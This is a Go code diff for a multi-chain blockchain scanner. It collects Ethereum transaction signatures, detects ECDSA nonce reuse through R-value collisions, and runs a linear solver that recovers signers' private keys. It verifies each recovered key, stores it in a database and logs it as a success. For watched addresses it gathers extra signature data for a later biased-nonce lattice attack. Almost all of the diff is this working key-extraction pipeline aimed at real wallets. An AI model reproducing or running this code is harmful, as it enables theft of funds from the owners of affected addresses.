+	}
+
+	if err := s.db.RecordReorgEvent(ctx, &db.ReorgEvent{ChainID: chainID, OldTip: lastBlock, ForkBlock: lca}); err != nil {
+		s.logger.Warn("[%s] Failed to record reorg event: %v", cs.config.Name, err)
+	}
+
+	s.logger.Info("[%s] Reorg resolved: common ancestor at block %d, rescanning from %d", cs.config.Name, lca, lca+1)
+	return lca, nil
+}
+
+// fetchBlockHash returns the hash the chain currently reports for
+// blockNumber, without fetching its transactions.
+func (s *Scanner) fetchBlockHash(cs *ChainScanner, ctx context.Context, blockNumber uint64) (string, error) {
+	if cs.pool == nil {
+		return "", fmt.Errorf("no client")
+	}
+
+	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
+	defer cancel()
+
+	var block RPCBlock
+	blockNumHex := fmt.Sprintf("0x%x", blockNumber)
+	if err := cs.pool.CallContext(ctx, &block, "eth_getBlockByNumber", blockNumHex, false); err != nil {
+		return "", err
+	}
+	return strings.ToLower(block.Hash), nil
+}
+
+// getLatestBlock returns the chain's current head. While cs.pushMode is true
+// (a healthy newHeads subscription is running), it drains the freshest value
+// off cs.headCh instead of spending an eth_blockNumber call; otherwise it
+// falls back to the usual HTTP poll.
 func (s *Scanner) getLatestBlock(cs *ChainScanner, ctx context.Context) (uint64, error) {
-	if cs.client == nil {
+	cs.mu.Lock()
+	pushMode := cs.pushMode
+	cs.mu.Unlock()
+
+	if pushMode {
+		if head, ok := s.latestPushedHead(cs); ok {
+			return head, nil
+		}
+	}
+
+	if cs.pool == nil {
 		return 0, fmt.Errorf("no client")
 	}
 
@@ -355,15 +1039,34 @@ func (s *Scanner) getLatestBlock(cs *ChainScanner, ctx context.Context) (uint64,
 	defer cancel()
 
 	var blockNum hexutil.Big
-	if err := cs.client.CallContext(ctx, &blockNum, "eth_blockNumber"); err != nil {
+	if err := cs.pool.CallContext(ctx, &blockNum, "eth_blockNumber"); err != nil {
 		return 0, err
 	}
 	return (*big.Int)(&blockNum).Uint64(), nil
 }
 
-func (s *Scanner) scanBlock(cs *ChainScanner, ctx context.Context, blockNum uint64) error {
-	if cs.client == nil {
-		return fmt.Errorf("no client")
+// latestPushedHead drains cs.headCh down to the most recent head number it
+// holds, so a burst of heads received while busy scanning doesn't make the
+// caller process every intermediate one.
+func (s *Scanner) latestPushedHead(cs *ChainScanner) (uint64, bool) {
+	var head uint64
+	var ok bool
+	for {
+		select {
+		case head = <-cs.headCh:
+			ok = true
+		default:
+			return head, ok
+		}
+	}
+}
+
+// fetchBlockByNumber fetches a single block (with full transactions) by
+// number. It's the common fetch path for both scanBlock's one-at-a-time
+// loop and scanCatchup's worker pool.
+func (s *Scanner) fetchBlockByNumber(cs *ChainScanner, ctx context.Context, blockNum uint64) (RPCBlock, error) {
+	if cs.pool == nil {
+		return RPCBlock{}, fmt.Errorf("no client")
 	}
 
 	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
@@ -371,11 +1074,16 @@ func (s *Scanner) scanBlock(cs *ChainScanner, ctx context.Context, blockNum uint
 
 	var block RPCBlock
 	blockNumHex := fmt.Sprintf("0x%x", blockNum)
-	if err := cs.client.CallContext(ctx, &block, "eth_getBlockByNumber", blockNumHex, true); err != nil {
-		return err
+	if err := cs.pool.CallContext(ctx, &block, "eth_getBlockByNumber", blockNumHex, true); err != nil {
+		return RPCBlock{}, err
 	}
+	return block, nil
+}
 
-	// Collect all valid transactions for batch processing
+// txInputsForBlock extracts the db.TxInput rows worth recording from block,
+// applying the same system-address and scan_mode filtering as the rest of
+// ingestion.
+func (s *Scanner) txInputsForBlock(ctx context.Context, cs *ChainScanner, block RPCBlock, blockNum uint64) []db.TxInput {
 	var txInputs []db.TxInput
 	for _, tx := range block.Transactions {
 		if tx.R == "" || tx.R == "0x0" || tx.From == "" {
@@ -384,26 +1092,46 @@ func (s *Scanner) scanBlock(cs *ChainScanner, ctx context.Context, blockNum uint
 		if s.systemAddresses[strings.ToLower(tx.From)] {
 			continue
 		}
-		txInputs = append(txInputs, db.TxInput{
-			RValue:  strings.ToLower(tx.R),
-			TxHash:  strings.ToLower(tx.Hash),
-			ChainID: cs.config.ChainID,
-			Address: strings.ToLower(tx.From),
-		})
-	}
-
-	if len(txInputs) == 0 {
-		return nil
+		watched := s.isWatched(cs.config.ChainID, tx.From)
+		if s.scanMode == config.ScanModeWatchedOnly && !watched {
+			continue
+		}
+		input := db.TxInput{
+			RValue:      strings.ToLower(tx.R),
+			TxHash:      strings.ToLower(tx.Hash),
+			ChainID:     cs.config.ChainID,
+			Address:     strings.ToLower(tx.From),
+			BlockNumber: blockNum,
+		}
+		// Watched addresses get extra scrutiny: a full per-tx decode to
+		// recover S and the signing hash, so enough signatures accumulate
+		// for a later biased-nonce (HNP) attempt. Doing this for every
+		// transaction in every block would be an unconditional RPC-call-per-tx
+		// cost the rest of the scanner deliberately avoids.
+		if watched {
+			if txData, err := s.fetchTxData(ctx, input.TxHash, cs.config.ChainID); err == nil {
+				input.SValue = "0x" + txData.S.Text(16)
+				input.HValue = "0x" + txData.Z.Text(16)
+			} else {
+				s.logger.Warn("[%s] Failed to decode watched tx %s for biased-nonce tracking: %v", cs.config.Name, input.TxHash, err)
+			}
+		}
+		txInputs = append(txInputs, input)
 	}
 
-	// Batch check and insert all R values
-	collisions, err := s.db.BatchCheckAndInsertRValues(ctx, txInputs)
-	if err != nil {
-		s.logger.Warn("[%s] DB batch error: %v", cs.config.Name, err)
-		return err
+	if s.scanMode == config.ScanModeWatchedPriority {
+		sort.SliceStable(txInputs, func(i, j int) bool {
+			return s.isWatched(cs.config.ChainID, txInputs[i].Address) && !s.isWatched(cs.config.ChainID, txInputs[j].Address)
+		})
 	}
+	return txInputs
+}
 
-	// Queue collisions for processing
+// queueCollisions pushes each collision onto s.collisionChan for
+// processCollisions to pick up, dropping (with a warning) any that don't
+// fit - a full queue means processing is already backed up, and blocking
+// here would stall ingestion.
+func (s *Scanner) queueCollisions(collisions []db.CollisionResult) {
 	for _, c := range collisions {
 		select {
 		case s.collisionChan <- CollisionEvent{
@@ -417,7 +1145,247 @@ func (s *Scanner) scanBlock(cs *ChainScanner, ctx context.Context, blockNum uint
 			s.logger.Warn("Collision queue full")
 		}
 	}
+}
+
+// catchupThreshold is how many confirmed-but-unscanned blocks trigger
+// scanLoop to hand off to scanCatchup's worker pool instead of continuing to
+// scan one block at a time - e.g. after the scanner's been offline a while.
+// defaultCatchupWorkers is how many goroutines fetch in parallel when a
+// chain doesn't set ChainConfig.CatchupWorkers. catchupBatchSize is how many
+// blocks each worker fetches per BatchCallContext round trip, and
+// catchupFlushSize is how many contiguous completed blocks get flushed to
+// the DB together.
+const (
+	catchupThreshold      = 100
+	defaultCatchupWorkers = 8
+	catchupBatchSize      = 20
+	catchupFlushSize      = 20
+)
+
+// catchupShardSize is how many blocks a single Coordinator.ClaimShard call
+// asks for. It's independent of catchupBatchSize/catchupFlushSize (those
+// size one worker pool round trip; this sizes one replica's slice of a
+// full-history rescan), and large enough that claiming a shard isn't the
+// bottleneck for a multi-thousand-block catch-up.
+const catchupShardSize = 5000
+
+// catchupResult is what a scanCatchup worker hands back to the reassembly
+// loop: the blocks it managed to fetch out of the batch it was given, keyed
+// by number. A number present in nums but missing from blocks is a gap -
+// either a per-call RPC error or a whole-batch transport failure - and is
+// left for a later catch-up pass to retry rather than blocking the rest of
+// the range.
+type catchupResult struct {
+	nums   []uint64
+	blocks map[uint64]RPCBlock
+}
+
+// fetchBlocksBatch fetches every block in nums in a single BatchCallContext
+// round trip. A block whose individual call errors is simply absent from
+// the returned map.
+func (s *Scanner) fetchBlocksBatch(cs *ChainScanner, ctx context.Context, nums []uint64) (map[uint64]RPCBlock, error) {
+	if cs.pool == nil {
+		return nil, fmt.Errorf("no client")
+	}
+
+	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
+	defer cancel()
+
+	elems := make([]rpc.BatchElem, len(nums))
+	raw := make([]RPCBlock, len(nums))
+	for i, n := range nums {
+		elems[i] = rpc.BatchElem{
+			Method: "eth_getBlockByNumber",
+			Args:   []interface{}{fmt.Sprintf("0x%x", n), true},
+			Result: &raw[i],
+		}
+	}
+
+	if err := cs.pool.BatchCallContext(ctx, elems); err != nil {
+		return nil, err
+	}
+
+	blocks := make(map[uint64]RPCBlock, len(nums))
+	for i, n := range nums {
+		if elems[i].Error != nil {
+			s.logger.Warn("[%s] Catch-up: failed to fetch block %d: %v", cs.config.Name, n, elems[i].Error)
+			continue
+		}
+		blocks[n] = raw[i]
+	}
+	return blocks, nil
+}
+
+// flushCatchupBlocks records and ingests a contiguous run of already-fetched
+// blocks as a single batch, then advances the chain's persisted cursor past
+// it. nums must be in ascending order and every one of them a key in blocks.
+func (s *Scanner) flushCatchupBlocks(cs *ChainScanner, ctx context.Context, nums []uint64, blocks map[uint64]RPCBlock) error {
+	var allInputs []db.TxInput
+	for _, n := range nums {
+		block := blocks[n]
+		if err := s.db.SaveScannedBlock(ctx, cs.config.ChainID, n, strings.ToLower(block.Hash)); err != nil {
+			s.logger.Warn("[%s] Failed to save scanned block %d: %v", cs.config.Name, n, err)
+		}
+		allInputs = append(allInputs, s.txInputsForBlock(ctx, cs, block, n)...)
+	}
+
+	if len(allInputs) > 0 {
+		collisions, err := s.db.BatchCheckAndInsertRValues(ctx, allInputs)
+		if err != nil {
+			return fmt.Errorf("batch insert blocks %d-%d: %w", nums[0], nums[len(nums)-1], err)
+		}
+		s.queueCollisions(collisions)
+	}
+
+	if err := s.db.SaveLastBlock(ctx, cs.config.ChainID, nums[len(nums)-1]); err != nil {
+		s.logger.Warn("[%s] Failed to save last block %d: %v", cs.config.Name, nums[len(nums)-1], err)
+	}
+	return nil
+}
+
+// scanCatchup fetches [fromBlock, toBlock] with a worker pool instead of
+// scanLoop's usual one-block-at-a-time fetch, for when a chain has fallen
+// catchupThreshold or more blocks behind (e.g. after downtime). A dispatcher
+// goroutine splits the range into catchupBatchSize-sized jobs on a bounded
+// channel; ChainConfig.CatchupWorkers (or defaultCatchupWorkers) goroutines
+// pull jobs and fetch each in one BatchCallContext round trip, pushing their
+// results to a bounded results channel. This goroutine reassembles results
+// into contiguous runs and flushes only what's contiguous from fromBlock
+// onward - a gap (a failed fetch) permanently stalls further flushing past
+// it until a later catch-up pass retries it, which is deliberate: it's safer
+// to leave a gap than to skip a block and lose its R-values.
+//
+// It returns the last block number successfully flushed, which is fromBlock-1
+// if nothing flushed at all.
+func (s *Scanner) scanCatchup(cs *ChainScanner, ctx context.Context, fromBlock, toBlock uint64) (uint64, error) {
+	workers := cs.config.CatchupWorkers
+	if workers <= 0 {
+		workers = defaultCatchupWorkers
+	}
+
+	jobs := make(chan []uint64, workers)
+	results := make(chan catchupResult, workers)
+
+	var wg sync.WaitGroup
+	for i := 0; i < workers; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for batch := range jobs {
+				blocks, err := s.fetchBlocksBatch(cs, ctx, batch)
+				if err != nil {
+					s.logger.Warn("[%s] Catch-up batch fetch failed: %v", cs.config.Name, err)
+					blocks = nil
+				}
+				select {
+				case results <- catchupResult{nums: batch, blocks: blocks}:
+				case <-cs.stopChan:
+					return
+				}
+			}
+		}()
+	}
+
+	go func() {
+		defer close(jobs)
+		for n := fromBlock; n <= toBlock; n += catchupBatchSize {
+			end := n + catchupBatchSize - 1
+			if end > toBlock {
+				end = toBlock
+			}
+			batch := make([]uint64, 0, end-n+1)
+			for b := n; b <= end; b++ {
+				batch = append(batch, b)
+			}
+			select {
+			case jobs <- batch:
+			case <-cs.stopChan:
+				return
+			}
+		}
+	}()
+
+	go func() {
+		wg.Wait()
+		close(results)
+	}()
+
+	pending := make(map[uint64]RPCBlock)
+	nextToFlush := fromBlock
+	var flushErr error
+
+	for res := range results {
+		for n, block := range res.blocks {
+			pending[n] = block
+		}
+		if flushErr != nil {
+			continue // already hit an error; keep draining so workers don't block on a full channel
+		}
+
+		for nextToFlush <= toBlock {
+			flushNums := make([]uint64, 0, catchupFlushSize)
+			for n := nextToFlush; len(flushNums) < catchupFlushSize && n <= toBlock; n++ {
+				if _, ok := pending[n]; !ok {
+					break
+				}
+				flushNums = append(flushNums, n)
+			}
+			if len(flushNums) == 0 {
+				break // gap right after nextToFlush - wait for more results
+			}
+
+			if err := s.flushCatchupBlocks(cs, ctx, flushNums, pending); err != nil {
+				flushErr = err
+				break
+			}
+			for _, n := range flushNums {
+				delete(pending, n)
+			}
+			nextToFlush += uint64(len(flushNums))
+		}
+	}
+
+	return nextToFlush - 1, flushErr
+}
+
+func (s *Scanner) scanBlock(cs *ChainScanner, ctx context.Context, blockNum uint64) error {
+	start := time.Now()
+	defer func() {
+		s.metrics.ObserveBlockScanDuration(cs.config.Name, time.Since(start))
+	}()
+
+	block, err := s.fetchBlockByNumber(cs, ctx, blockNum)
+	if err != nil {
+		return err
+	}
+	s.metrics.BlockScanned(cs.config.Name)
+
+	// Record the hash we scanned at this height so a later poll can detect a
+	// reorg by noticing the chain now reports a different one here.
+	if err := s.db.SaveScannedBlock(ctx, cs.config.ChainID, blockNum, strings.ToLower(block.Hash)); err != nil {
+		s.logger.Warn("[%s] Failed to save scanned block %d: %v", cs.config.Name, blockNum, err)
+	}
+
+	txInputs := s.txInputsForBlock(ctx, cs, block, blockNum)
+	if len(txInputs) == 0 {
+		return nil
+	}
+
+	collisions, err := s.db.BatchCheckAndInsertRValues(ctx, txInputs)
+	if err != nil {
+		s.logger.Warn("[%s] DB batch error: %v", cs.config.Name, err)
+		return err
+	}
+
+	s.events.Publish(events.Event{
+		Kind:      events.KindRValueObserved,
+		ChainID:   cs.config.ChainID,
+		ChainName: cs.config.Name,
+		Count:     len(txInputs),
+	})
+	s.metrics.RValuesSeen(cs.config.Name, len(txInputs))
 
+	s.queueCollisions(collisions)
 	return nil
 }
 
@@ -460,6 +1428,16 @@ func (s *Scanner) handleCollision(event CollisionEvent) {
 		s.logger.Warn("[NOTIFY] Failed to send collision notification: %v", err)
 	}
 
+	s.events.Publish(events.Event{
+		Kind:    events.KindCollision,
+		ChainID: event.NewChainID,
+		Address: tx2Data.From,
+		RValue:  event.RValue,
+		TxHash:  event.NewTxHash,
+		Message: isSameKeyMessage(isSameKey),
+	})
+	s.metrics.CollisionDetected()
+
 	if isSameKey {
 		s.logger.Info("[COLLISION] Same-key reuse detected for %s", tx1Data.From)
 		s.attemptSameKeyRecovery(ctx, event, tx1Data, tx2Data)
@@ -479,11 +1457,22 @@ func (s *Scanner) handleCollision(event CollisionEvent) {
 	s.savePendingComponent(ctx, event, tx1Data, tx2Data)
 }
 
+// isSameKeyMessage renders a short human-readable note for a KindCollision
+// event, distinguishing same-key reuse (directly recoverable) from a
+// cross-key collision (needs a second equation).
+func isSameKeyMessage(isSameKey bool) string {
+	if isSameKey {
+		return "same-key nonce reuse"
+	}
+	return "cross-key R-value collision"
+}
+
 // TxData holds fetched transaction data needed for recovery
 type TxData struct {
 	Hash    string
 	ChainID int
 	From    string
+	Type    byte     // legacy (0x00), access-list (0x01), dynamic-fee (0x02), or blob (0x03)
 	Z       *big.Int // signing hash
 	R       *big.Int
 	S       *big.Int
@@ -518,20 +1507,53 @@ func (s *Scanner) fetchTxData(ctx context.Context, txHash string, chainID int) (
 		return nil, err
 	}
 
-	z := signer.Hash(tx)
-	v, r, sVal := tx.RawSignatureValues()
-	_ = v
+	z, err := s.txDecoder.SigningHash(rawTxFromTransaction(tx))
+	if err != nil {
+		return nil, fmt.Errorf("decode signing hash: %w", err)
+	}
+	_, r, sVal := tx.RawSignatureValues()
 
 	return &TxData{
 		Hash:    txHash,
 		ChainID: chainID,
 		From:    from.Hex(),
-		Z:       new(big.Int).SetBytes(z.Bytes()),
+		Type:    tx.Type(),
+		Z:       z,
 		R:       r,
 		S:       sVal,
 	}, nil
 }
 
+// rawTxFromTransaction extracts the fields TxDecoder needs out of a fully
+// decoded go-ethereum transaction.
+func rawTxFromTransaction(tx *types.Transaction) RawTx {
+	raw := RawTx{
+		Type:     tx.Type(),
+		ChainID:  tx.ChainId(),
+		Nonce:    tx.Nonce(),
+		Gas:      tx.Gas(),
+		To:       tx.To(),
+		Value:    tx.Value(),
+		Data:     tx.Data(),
+		GasPrice: tx.GasPrice(),
+	}
+	switch tx.Type() {
+	case types.AccessListTxType:
+		raw.AccessList = tx.AccessList()
+	case types.DynamicFeeTxType:
+		raw.AccessList = tx.AccessList()
+		raw.GasTipCap = tx.GasTipCap()
+		raw.GasFeeCap = tx.GasFeeCap()
+	case types.BlobTxType:
+		raw.AccessList = tx.AccessList()
+		raw.GasTipCap = tx.GasTipCap()
+		raw.GasFeeCap = tx.GasFeeCap()
+		raw.MaxFeePerBlobGas = tx.BlobGasFeeCap()
+		raw.BlobVersionedHashes = tx.BlobHashes()
+	}
+	return raw
+}
+
 func (s *Scanner) attemptSameKeyRecovery(ctx context.Context, event CollisionEvent, tx1, tx2 *TxData) {
 	// Check if already recovered
 	recovered, _ := s.db.IsKeyRecovered(ctx, tx1.From, tx1.ChainID)
@@ -577,6 +1599,17 @@ func (s *Scanner) attemptSameKeyRecovery(ctx context.Context, event CollisionEve
 	if err := s.notifier.NotifyKeyRecovered(tx1.From, chainName, 2); err != nil {
 		s.logger.Warn("[NOTIFY] Failed to send notification: %v", err)
 	}
+	s.events.Publish(events.Event{
+		Kind:      events.KindKeyRecovered,
+		ChainID:   tx1.ChainID,
+		ChainName: chainName,
+		Address:   tx1.From,
+		RValue:    event.RValue,
+	})
+	s.metrics.KeyRecovered()
+
+	// This key might also be what a pending component was waiting on.
+	s.checkPendingComponentsForAddress(ctx, tx1.From)
 
 	// Only save nonce if it can help recover other keys (cross-key potential)
 	hasCrossKey, _ := s.db.HasCrossKeyPotential(ctx, event.RValue, tx1.From)
@@ -588,9 +1621,15 @@ func (s *Scanner) attemptSameKeyRecovery(ctx context.Context, event CollisionEve
 			DerivedFromKeyID: keyID,
 		})
 		s.logger.Info("[RECOVERY] Saved nonce for cross-key recovery (R=%s...)", event.RValue[:18])
+		s.events.Publish(events.Event{
+			Kind:    events.KindNonceRecovered,
+			ChainID: tx1.ChainID,
+			RValue:  event.RValue,
+		})
+		s.metrics.NonceRecovered()
 
 		// Check if this unlocks any pending components
-		s.checkPendingComponents(ctx, event.RValue, nonce)
+		s.checkPendingComponents(ctx, event.RValue)
 	}
 }
 
@@ -636,37 +1675,301 @@ func (s *Scanner) attemptCrossKeyRecoveryWithKnownNonce(ctx context.Context, eve
 	if err := s.notifier.NotifyKeyRecovered(txData.From, chainName, 1); err != nil {
 		s.logger.Warn("[NOTIFY] Failed to send notification: %v", err)
 	}
+	s.events.Publish(events.Event{
+		Kind:      events.KindKeyRecovered,
+		ChainID:   txData.ChainID,
+		ChainName: chainName,
+		Address:   txData.From,
+		RValue:    event.RValue,
+	})
+	s.metrics.KeyRecovered()
+
+	// This key might also be what a pending component was waiting on.
+	s.checkPendingComponentsForAddress(ctx, txData.From)
 }
 
+// savePendingComponent records a cross-key collision as a pending component,
+// merging it into any existing pending component that already shares one of
+// its R-values or addresses so the two stay a single connected component -
+// that's what lets, say, three signatures sharing two R-values across two
+// separate collisions eventually become solvable together.
 func (s *Scanner) savePendingComponent(ctx context.Context, event CollisionEvent, tx1, tx2 *TxData) {
-	comp := &db.PendingComponent{
+	merged := db.PendingComponent{
 		RValues:   []string{event.RValue},
 		TxHashes:  []string{tx1.Hash, tx2.Hash},
 		Addresses: []string{tx1.From, tx2.From},
 		ChainIDs:  []int{tx1.ChainID, tx2.ChainID},
-		Equations: 2,
-		Unknowns:  3, // 2 keys + 1 nonce
 	}
-	s.db.SavePendingComponent(ctx, comp)
-}
 
-func (s *Scanner) checkPendingComponents(ctx context.Context, rValue string, nonce string) {
-	// Check if any pending components use this R value
 	comps, err := s.db.GetPendingComponents(ctx)
 	if err != nil {
+		comps = nil
+	}
+	for _, comp := range comps {
+		if !componentsOverlap(comp, merged) {
+			continue
+		}
+		merged = mergePendingComponents(comp, merged)
+		if err := s.db.DeletePendingComponent(ctx, comp.ID); err != nil {
+			s.logger.Warn("[RECOVERY] Failed to delete merged pending component %d: %v", comp.ID, err)
+		}
+	}
+
+	merged.Equations = len(merged.TxHashes)
+	merged.Unknowns = countDistinctUnknowns(merged)
+
+	if err := s.db.SavePendingComponent(ctx, &merged); err != nil {
+		s.logger.Warn("[RECOVERY] Failed to save pending component: %v", err)
 		return
 	}
 
-	for _, comp := range comps {
+	// The merge may already carry enough equations to solve part of it.
+	s.solveComponent(ctx, merged)
+}
+
+func componentsOverlap(a, b db.PendingComponent) bool {
+	for _, r := range a.RValues {
+		for _, r2 := range b.RValues {
+			if r == r2 {
+				return true
+			}
+		}
+	}
+	for _, addr := range a.Addresses {
+		for _, addr2 := range b.Addresses {
+			if strings.EqualFold(addr, addr2) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func mergePendingComponents(a, b db.PendingComponent) db.PendingComponent {
+	rValues := make([]string, 0, len(a.RValues)+len(b.RValues))
+	seenR := make(map[string]bool)
+	for _, r := range append(append([]string{}, a.RValues...), b.RValues...) {
+		if seenR[r] {
+			continue
+		}
+		seenR[r] = true
+		rValues = append(rValues, r)
+	}
+
+	return db.PendingComponent{
+		RValues:   rValues,
+		TxHashes:  append(append([]string{}, a.TxHashes...), b.TxHashes...),
+		Addresses: append(append([]string{}, a.Addresses...), b.Addresses...),
+		ChainIDs:  append(append([]int{}, a.ChainIDs...), b.ChainIDs...),
+	}
+}
+
+func countDistinctUnknowns(comp db.PendingComponent) int {
+	rs := make(map[string]bool)
+	for _, r := range comp.RValues {
+		rs[r] = true
+	}
+	addrs := make(map[string]bool)
+	for _, a := range comp.Addresses {
+		addrs[strings.ToLower(a)] = true
+	}
+	return len(rs) + len(addrs)
+}
+
+// checkPendingComponents re-solves every pending component that references
+// rValue, called after a new nonce for that R-value becomes known.
+func (s *Scanner) checkPendingComponents(ctx context.Context, rValue string) {
+	s.recheckComponents(ctx, func(comp db.PendingComponent) bool {
 		for _, r := range comp.RValues {
 			if r == rValue {
-				// This component now has a known nonce
-				s.logger.Info("[RECOVERY] Pending component now solvable")
-				// TODO: Implement general linear solver
-				// For now, we handle simple cases in the collision handler
+				return true
 			}
 		}
+		return false
+	})
+}
+
+// checkPendingComponentsForAddress re-solves every pending component that
+// references address, called after a new private key for that address
+// becomes known.
+func (s *Scanner) checkPendingComponentsForAddress(ctx context.Context, address string) {
+	s.recheckComponents(ctx, func(comp db.PendingComponent) bool {
+		for _, a := range comp.Addresses {
+			if strings.EqualFold(a, address) {
+				return true
+			}
+		}
+		return false
+	})
+}
+
+func (s *Scanner) recheckComponents(ctx context.Context, match func(db.PendingComponent) bool) {
+	comps, err := s.db.GetPendingComponents(ctx)
+	if err != nil {
+		return
+	}
+	for _, comp := range comps {
+		if match(comp) {
+			s.solveComponent(ctx, comp)
+		}
+	}
+}
+
+// solveComponent refetches every signature in comp, substitutes whatever
+// nonces/keys are already known, and runs recovery.SolveComponent to see
+// what it can newly determine. Newly solved keys are verified before being
+// persisted; newly solved nonces are persisted and trigger a recursive
+// check of whatever other components share that R-value.
+func (s *Scanner) solveComponent(ctx context.Context, comp db.PendingComponent) {
+	var sigs []recovery.ComponentSignature
+	for i, txHash := range comp.TxHashes {
+		if i >= len(comp.ChainIDs) {
+			break
+		}
+		txData, err := s.fetchTxData(ctx, txHash, comp.ChainIDs[i])
+		if err != nil {
+			s.logger.Warn("[RECOVERY] Component %d: failed to fetch %s: %v", comp.ID, txHash, err)
+			continue
+		}
+		sigs = append(sigs, recovery.ComponentSignature{
+			RValue:  fmt.Sprintf("0x%x", txData.R),
+			Address: strings.ToLower(txData.From),
+			R:       txData.R,
+			S:       txData.S,
+			Z:       txData.Z,
+		})
+	}
+	if len(sigs) == 0 {
+		return
+	}
+
+	knownNonces := make(map[string]*big.Int)
+	seenR := make(map[string]bool)
+	for _, sig := range sigs {
+		if seenR[sig.RValue] {
+			continue
+		}
+		seenR[sig.RValue] = true
+		if n, err := s.db.GetRecoveredNonce(ctx, sig.RValue); err == nil {
+			if k, ok := new(big.Int).SetString(strings.TrimPrefix(n.KValue, "0x"), 16); ok {
+				knownNonces[sig.RValue] = k
+			}
+		}
+	}
+
+	knownKeys := make(map[string]*big.Int)
+	if recoveredKeys, err := s.db.GetRecoveredKeys(ctx); err == nil {
+		for _, rk := range recoveredKeys {
+			if d, ok := new(big.Int).SetString(strings.TrimPrefix(rk.PrivateKey, "0x"), 16); ok {
+				knownKeys[strings.ToLower(rk.Address)] = d
+			}
+		}
+	}
+
+	newNonces, newKeys := recovery.SolveComponent(sigs, knownNonces, knownKeys, recovery.CurveOrder())
+
+	for rv, k := range newNonces {
+		s.logger.Info("[RECOVERY] Component %d: derived nonce for R=%s...", comp.ID, shortenR(rv))
+		if err := s.db.SaveRecoveredNonce(ctx, &db.RecoveredNonce{RValue: rv, KValue: "0x" + k.Text(16)}); err != nil {
+			s.logger.Warn("[RECOVERY] Component %d: failed to save derived nonce: %v", comp.ID, err)
+			continue
+		}
+		knownNonces[rv] = k
+		s.events.Publish(events.Event{Kind: events.KindNonceRecovered, RValue: rv})
+		s.metrics.NonceRecovered()
+		s.checkPendingComponents(ctx, rv)
+	}
+
+	for addr, d := range newKeys {
+		var owner *recovery.ComponentSignature
+		for i := range sigs {
+			if sigs[i].Address == addr {
+				owner = &sigs[i]
+				break
+			}
+		}
+		if owner == nil {
+			continue
+		}
+
+		privKey := "0x" + d.Text(16)
+		if !recovery.VerifyPrivateKey(privKey, addr) {
+			s.logger.Warn("[RECOVERY] Component %d: solved key for %s failed verification", comp.ID, addr)
+			continue
+		}
+
+		var chainID int
+		var txHashes []string
+		for i, sig := range sigs {
+			if sig.Address == addr {
+				chainID = comp.ChainIDs[i]
+				txHashes = append(txHashes, comp.TxHashes[i])
+			}
+		}
+
+		chainName := ""
+		if cfg := config.ChainByID(chainID); cfg != nil {
+			chainName = cfg.Name
+		}
+
+		keyID, err := s.db.SaveRecoveredKey(ctx, &db.RecoveredKey{
+			Address:    addr,
+			PrivateKey: privKey,
+			ChainID:    chainID,
+			ChainName:  chainName,
+			RValues:    comp.RValues,
+			TxHashes:   txHashes,
+		})
+		if err != nil {
+			s.logger.Warn("[RECOVERY] Component %d: failed to save solved key: %v", comp.ID, err)
+			continue
+		}
+
+		s.logger.Info("[RECOVERY] *** SUCCESS (linear solver) *** Recovered key for %s", addr)
+		if err := s.notifier.NotifyKeyRecovered(addr, chainName, len(txHashes)); err != nil {
+			s.logger.Warn("[NOTIFY] Failed to send notification: %v", err)
+		}
+		s.events.Publish(events.Event{
+			Kind:      events.KindKeyRecovered,
+			ChainID:   chainID,
+			ChainName: chainName,
+			Address:   addr,
+		})
+		s.metrics.KeyRecovered()
+		knownKeys[addr] = d
+		_ = keyID
+		s.checkPendingComponentsForAddress(ctx, addr)
+	}
+
+	if componentFullySolved(sigs, knownNonces, knownKeys) {
+		if err := s.db.DeletePendingComponent(ctx, comp.ID); err != nil {
+			s.logger.Warn("[RECOVERY] Component %d: failed to delete solved component: %v", comp.ID, err)
+		}
+	}
+}
+
+// componentFullySolved reports whether every nonce and key a component's
+// signatures reference is now known, meaning there's nothing left it could
+// teach the solver.
+func componentFullySolved(sigs []recovery.ComponentSignature, knownNonces, knownKeys map[string]*big.Int) bool {
+	for _, sig := range sigs {
+		if _, ok := knownNonces[sig.RValue]; !ok {
+			return false
+		}
+		if _, ok := knownKeys[sig.Address]; !ok {
+			return false
+		}
+	}
+	return true
+}
+
+// shortenR trims an R-value down to its first 18 characters for log lines,
+// same convention as the CollisionEvent log calls elsewhere in this file.
+func shortenR(r string) string {
+	if len(r) > 18 {
+		return r[:18]
 	}
+	return r
 }
 
 // SetRecoveryEnabled enables/disables automatic recovery